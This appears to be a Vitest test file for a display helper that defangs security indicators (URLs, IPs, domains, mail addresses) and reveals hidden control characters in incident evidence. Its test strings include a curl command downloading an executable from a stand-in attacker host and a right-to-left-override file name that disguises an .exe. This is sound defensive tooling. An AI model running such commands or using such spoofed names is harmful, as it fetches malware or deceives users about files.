import { describe, expect, it } from 'vitest';
import { shownEvidence } from './evidence-text.ts';

describe('shownEvidence', () => {
  it('defangs URLs, hosts, addresses and mail addresses', () => {
    expect(shownEvidence('https://evil.example/a.b')).toBe('hxxps://evil[.]example/a.b');
    expect(shownEvidence('203.0.113.9')).toBe('203[.]0[.]113[.]9');
    expect(shownEvidence('evil.example')).toBe('evil[.]example');
    expect(shownEvidence('mallory@evil.example')).toBe('mallory[@]evil[.]example');
  });

  it('defangs mail addresses in running text where addresses are announced, as in the query of an email cluster', () => {
    expect(shownEvidence('Sender is mallory@evil.example, P2 a.b@c.example')).toBe(
      'Sender is mallory[@]evil[.]example, P2 a.b[@]c[.]example',
    );
    expect(shownEvidence('runs as dana@contoso.example', 'text')).toBe('runs as dana@contoso.example');
  });

  it('leaves file names and commands readable but for the URLs in them', () => {
    expect(shownEvidence('cmd.exe', 'text')).toBe('cmd.exe');
    expect(shownEvidence('curl http://evil.example/x -o a.exe', 'text')).toBe(
      'curl hxxp://evil[.]example/x -o a.exe',
    );
  });

  it('shows characters that hide or turn text', () => {
    expect(shownEvidence('invoice\u202efdp.exe', 'text')).toBe('invoice⟦RLO⟧fdp.exe');
    expect(shownEvidence('a\u001b[31mb', 'text')).toBe('a⟦ESC⟧[31mb');
  });
});
